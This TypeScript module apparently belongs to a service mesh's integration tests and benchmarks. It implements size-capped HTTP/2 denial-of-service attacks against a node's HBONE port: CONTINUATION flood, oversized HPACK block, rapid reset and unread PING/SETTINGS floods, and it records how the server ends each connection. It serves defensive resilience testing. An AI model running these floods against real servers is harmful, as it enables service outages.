/**
 * The attacks of issue 14 against a node's HBONE port (15008), each bounded in bytes and time, each
 * reporting what the attacker saw: how much it got to send, and how the server ended each of its
 * connections (GOAWAY code, RST_STREAM codes, close). Shared by tests/integration/abuse_test.ts (which
 * asserts on the outcomes) and bench/abuse.ts (which prints them). Here: the outcome types and the
 * header-block, reset and ACK floods; flow-control attacks in h2_window_attacks.ts, slow peers in
 * h2_stall_attacks.ts.
 */
import { type AttackerOptions, type FloodEnd, H2Attacker } from "./h2_attacker.ts";
import {
  Code,
  connect,
  connectBlock,
  continuation,
  frame,
  FrameType,
  join,
  literal,
  ping,
  repeat,
  rst,
  settings,
} from "./h2_frames.ts";

export interface AttackContext {
  /** The node's HBONE listener for the target pod, and a mesh certificate for the attacker. */
  readonly target: Omit<AttackerOptions, "preface">;
  /** `ip:port` of an app of the pod that echoes (the in-pod upstream). */
  readonly echo: string;
  /** `ip:port` of an app of the pod that accepts and never reads. */
  readonly sink: string;
  /** Upstream connections the echo app accepted so far (the work the attacker made the node start). */
  readonly upstreamAccepted: () => number;
}

/** One attacking connection, as its attacker saw it end. */
export interface ConnResult {
  /** The attacker's source port (the node logs it as `src.addr`). */
  readonly port: number;
  readonly goaway?: { readonly code: number; readonly debug: string; readonly lastStreamId: number };
  /** RST_STREAM frames received: [stream, code]. */
  readonly resets: ReadonlyArray<readonly [number, number]>;
  /** The server closed the connection within the attack's wait. */
  readonly closed: boolean;
  /** ms from the attack's start to the GOAWAY (or the close when none came). */
  readonly stopMs?: number;
  readonly pingsReceived: number;
}

export interface AttackResult {
  readonly name: string;
  readonly conns: readonly ConnResult[];
  /** Bytes the attacker handed to its sockets before it was stopped. */
  readonly sent: number;
  readonly end: FloodEnd | "done";
  /** ms from the start to the last connection's end. */
  readonly ms: number;
  /** Attack-specific facts (upstream connects started, streams reset, ...). */
  readonly facts: Readonly<Record<string, number>>;
}

export const MiB = 1024 * 1024;

export function open(ctx: AttackContext, preface = true): Promise<H2Attacker> {
  return H2Attacker.connect({ ...ctx.target, preface });
}

/** Reads until the server closes `a` (up to `waitMs`), then describes how it ended. */
export async function finish(a: H2Attacker, t0: number, waitMs = 5000): Promise<ConnResult> {
  const closed = await a.closed(waitMs);
  const stop = a.goaway?.at ?? a.closedAt;
  const res: ConnResult = {
    port: a.localPort,
    goaway: a.goaway && { code: a.goaway.code, debug: a.goaway.debug, lastStreamId: a.goaway.lastStreamId },
    resets: [...a.resets],
    closed,
    stopMs: stop === undefined ? undefined : Math.round(stop - t0),
    pingsReceived: a.received.get(FrameType.PING) ?? 0,
  };
  a.destroy();
  return res;
}

export function result(
  name: string,
  t0: number,
  conns: ConnResult[],
  sent: number,
  end: FloodEnd | "done",
  facts: Record<string, number> = {},
): AttackResult {
  return { name, conns, sent, end, ms: Math.round(performance.now() - t0), facts };
}

/** HEADERS without END_HEADERS, then CONTINUATION frames of 16 bytes, up to 64 MiB (CVE-2024-27316). */
export async function continuationFlood(ctx: AttackContext): Promise<AttackResult> {
  const t0 = performance.now();
  const a = await open(ctx);
  await a.write(frame(FrameType.HEADERS, 0, 1, connectBlock(ctx.echo)));
  const batch = repeat(continuation(1, new Uint8Array(16).fill(0x20)), 4096);
  const r = await a.flood(() => batch, { maxBytes: 64 * MiB });
  return result("CONTINUATION flood", t0, [await finish(a, t0)], r.sent, r.end);
}

/** One header block of 128 MiB of HPACK literals through 16 KiB CONTINUATION frames. */
export async function hugeHpackBlock(ctx: AttackContext): Promise<AttackResult> {
  const t0 = performance.now();
  const a = await open(ctx);
  const field = literal("x-filler", "a".repeat(1000));
  const fields = repeat(field, Math.ceil(16384 / field.length) + 1);
  let off = 0;
  const next = (): Uint8Array => {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < 16; i++) {
      const start = off % field.length;
      frames.push(continuation(1, fields.subarray(start, start + 16384)));
      off += 16384;
    }
    return join(frames);
  };
  await a.write(frame(FrameType.HEADERS, 0, 1, join([connectBlock(ctx.echo), fields.subarray(0, 16000)])));
  off = 16000;
  const r = await a.flood(next, { maxBytes: 128 * MiB });
  return result("128 MiB HPACK block", t0, [await finish(a, t0)], r.sent, r.end);
}

/**
 * CONNECT + RST_STREAM up to 50,000 times on one connection (CVE-2023-44487). `paced`: each CONNECT
 * goes out alone and its RST after a macrotask, so the node has handed the stream to the inbound proxy
 * (which starts an upstream connect) before the reset arrives; else pairs go out 100 at a time.
 */
export async function rapidReset(ctx: AttackContext, paced: boolean): Promise<AttackResult> {
  const t0 = performance.now();
  const before = ctx.upstreamAccepted();
  const a = await open(ctx);
  let pairs = 0;
  let sent = 0;
  const tick = () => new Promise((r) => setTimeout(r, 0));
  const live = () => !a.goaway && !a.isClosed;
  for (let id = 1; pairs < 50_000 && live();) {
    if (paced) {
      const c = connect(id, ctx.echo);
      await a.write(c);
      await tick();
      const r = rst(id, Code.CANCEL);
      await a.write(r);
      sent += c.length + r.length;
      pairs++;
      id += 2;
    } else {
      const frames: Uint8Array[] = [];
      for (let i = 0; i < 100; i++, id += 2, pairs++) {
        frames.push(connect(id, ctx.echo), rst(id, Code.CANCEL));
      }
      const b = join(frames);
      sent += b.length;
      if (await a.write(b) === "closed") break;
      await tick();
    }
  }
  const conn = await finish(a, t0);
  // Upstream connects already started finish (or fail) within a moment; count them after it.
  await new Promise((r) => setTimeout(r, 200));
  return result(paced ? "rapid reset (paced)" : "rapid reset (batched)", t0, [conn], sent, "done", {
    pairs,
    upstreamConnects: ctx.upstreamAccepted() - before,
  });
}

/** PINGs (or empty SETTINGS) from a peer that never reads: up to 2 M frames or until stopped. */
export async function ackFlood(ctx: AttackContext, kind: "PING" | "SETTINGS"): Promise<AttackResult> {
  const t0 = performance.now();
  const a = await open(ctx);
  a.stopReading();
  const one = kind === "PING" ? ping(7) : settings();
  const batch = repeat(one, 1000);
  const r = await a.flood(() => batch, { maxBytes: 2_000_000 * one.length, blockMs: 200 });
  return result(`${kind} flood, never read`, t0, [await finish(a, t0)], r.sent, r.end, {
    frames: Math.floor(r.sent / one.length),
  });
}
